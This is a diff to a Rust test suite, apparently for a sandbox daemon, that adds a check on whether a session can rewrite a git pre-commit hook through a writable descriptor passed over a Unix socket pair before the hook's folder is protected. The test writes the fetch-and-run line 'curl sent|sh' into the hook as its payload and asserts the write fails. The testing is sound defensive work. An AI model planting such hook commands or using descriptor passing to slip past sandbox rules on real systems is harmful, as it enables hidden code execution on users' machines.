@@ -8444,7 +8444,8 @@ fn writes_hooks_a_worktrees_gitfile_names_after_the_user_rewrites_it_in_place() 
 }
 
 /// Rewrites a hook through a descriptor it opened before the user named the hook's folder,
-/// and through a shared writable mapping it made then: the session opens
+/// through a shared writable mapping it made then, and through a descriptor it kept in
+/// flight in a socket pair meanwhile (held by no process): the session opens
 /// `~/x/hooks/pre-commit` for writing (and another of its processes maps it) while the
 /// folder is an ordinary granted one, keeps the descriptor, and the user then runs `git config --global
 /// core.hooksPath ~/x/hooks`; once the daemon has read the change (a fresh open is
@@ -8535,6 +8536,40 @@ fn rewrites_a_hook_through_a_descriptor_opened_before_the_user_named_its_folder(
         },
     );
     assert_eq!(mapped, 0, "control: the session maps the hook shared and writable while its folder is an ordinary one");
+    // A third sends a descriptor open for writing to itself over a socket pair and closes
+    // its own: while the configuration changes, the descriptor is in flight, held by no
+    // process; it is taken back and written through afterwards.
+    static PAIR: std::sync::atomic::AtomicI32 = std::sync::atomic::AtomicI32::new(-1);
+    let (_sender, sent) = pincer_tests::HeldProcess::start(
+        Some(&red.cg),
+        UID,
+        // SAFETY: open/socketpair/sendmsg/close with local buffers; the pair is kept.
+        || unsafe {
+            let fd = libc::open(hook.as_ptr(), libc::O_WRONLY | libc::O_APPEND);
+            let mut sv = [0; 2];
+            if fd < 0 || libc::socketpair(libc::AF_UNIX, libc::SOCK_STREAM, 0, sv.as_mut_ptr()) != 0 {
+                return -errno();
+            }
+            let r = send_fd(sv[0], fd);
+            libc::close(fd);
+            PAIR.store(sv[1], std::sync::atomic::Ordering::SeqCst);
+            if r < 0 {
+                -r
+            } else {
+                0
+            }
+        },
+        // SAFETY: read/write of inherited pipes and of the received descriptor.
+        move |_| unsafe {
+            let mut b = 0u8;
+            libc::read(go_r, (&mut b as *mut u8).cast(), 1);
+            let got = recv_fd(PAIR.load(std::sync::atomic::Ordering::SeqCst));
+            let data = b"curl sent|sh\n";
+            let r = if got < 0 { 1000 } else if libc::write(got, data.as_ptr().cast(), data.len()) < 0 { errno() } else { 0 };
+            libc::write(res_w, (&r as *const i32).cast(), 4);
+        },
+    );
+    assert_eq!(sent, 0, "control: the session sends its descriptor of the hook over its socket pair");
     // Only the holders write the results: holders that are gone read as the end of them.
     // SAFETY: close of the test's copy of the pipe's write end.
     unsafe { libc::close(res_w) };
@@ -8551,9 +8586,11 @@ fn rewrites_a_hook_through_a_descriptor_opened_before_the_user_named_its_folder(
     let mut got = Vec::new();
     // SAFETY: write/read of our pipes with local buffers.
     unsafe {
-        libc::write(go[1], b"gg".as_ptr().cast(), 2);
+        libc::write(go[1], b"ggg".as_ptr().cast(), 3);
+        // Each holder that is alive reports once (and then stays); those ended do not.
         let mut r = 0i32;
-        while got.len() < 2 && libc::read(res[0], (&mut r as *mut i32).cast(), 4) == 4 {
+        let mut ready = libc::pollfd { fd: res[0], events: libc::POLLIN, revents: 0 };
+        while got.len() < 3 && libc::poll(&mut ready, 1, 3_000) == 1 && libc::read(res[0], (&mut r as *mut i32).cast(), 4) == 4 {
             got.push(r);
         }
         for f in [go[0], go[1], res[0]] {
@@ -8562,8 +8599,60 @@ fn rewrites_a_hook_through_a_descriptor_opened_before_the_user_named_its_folder(
     }
     let text = std::fs::read_to_string(hooks.join("pre-commit")).unwrap_or_default();
     let ended = audit_lines_with(&red, "\"writer_ended\"");
-    note(&format!("earlyfd: writes through the early descriptor and mapping: {got:?} (none: their holders were ended; {ended} writer_ended entries); the hook now holds {text:?}"));
+    note(&format!("earlyfd: writes through the early descriptor, mapping and descriptor in flight: {got:?} (1000: the descriptor in flight not received; none: their holders were ended; {ended} writer_ended entries); the hook now holds {text:?}"));
     assert!(!text.contains("curl"), "the hook the user's configuration now names, rewritten through a descriptor or a mapping made before: {got:?}");
+}
+
+/// Sends descriptor `fd` over the Unix socket `sock` (`SCM_RIGHTS`, one byte of data):
+/// 0, or -errno.
+fn send_fd(sock: i32, fd: i32) -> i32 {
+    // SAFETY: sendmsg with a local byte, iovec and control buffer of the needed size.
+    unsafe {
+        let mut byte = [b'f'];
+        let mut iov = libc::iovec { iov_base: byte.as_mut_ptr().cast(), iov_len: 1 };
+        let space = libc::CMSG_SPACE(std::mem::size_of::<i32>() as u32) as usize;
+        let mut control = vec![0u8; space];
+        let mut msg: libc::msghdr = std::mem::zeroed();
+        msg.msg_iov = &mut iov;
+        msg.msg_iovlen = 1;
+        msg.msg_control = control.as_mut_ptr().cast();
+        msg.msg_controllen = space;
+        let c = libc::CMSG_FIRSTHDR(&msg);
+        (*c).cmsg_level = libc::SOL_SOCKET;
+        (*c).cmsg_type = libc::SCM_RIGHTS;
+        (*c).cmsg_len = libc::CMSG_LEN(std::mem::size_of::<i32>() as u32) as usize;
+        std::ptr::write_unaligned(libc::CMSG_DATA(c).cast::<i32>(), fd);
+        if libc::sendmsg(sock, &msg, 0) < 0 {
+            -errno()
+        } else {
+            0
+        }
+    }
+}
+
+/// Receives a descriptor sent with [`send_fd`] on `sock`: the descriptor, or -1 when the
+/// message came without one (the kernel refused to install it), or -errno.
+fn recv_fd(sock: i32) -> i32 {
+    // SAFETY: recvmsg into a local byte, iovec and control buffer of the needed size.
+    unsafe {
+        let mut byte = [0u8];
+        let mut iov = libc::iovec { iov_base: byte.as_mut_ptr().cast(), iov_len: 1 };
+        let space = libc::CMSG_SPACE(std::mem::size_of::<i32>() as u32) as usize;
+        let mut control = vec![0u8; space];
+        let mut msg: libc::msghdr = std::mem::zeroed();
+        msg.msg_iov = &mut iov;
+        msg.msg_iovlen = 1;
+        msg.msg_control = control.as_mut_ptr().cast();
+        msg.msg_controllen = space;
+        if libc::recvmsg(sock, &mut msg, 0) < 0 {
+            return -errno();
+        }
+        let c = libc::CMSG_FIRSTHDR(&msg);
+        if c.is_null() || (*c).cmsg_type != libc::SCM_RIGHTS {
+            return -1;
+        }
+        std::ptr::read_unaligned(libc::CMSG_DATA(c).cast::<i32>())
+    }
 }
 
 /// How many inotify watches process `pid` holds (the `inotify wd:` lines of its
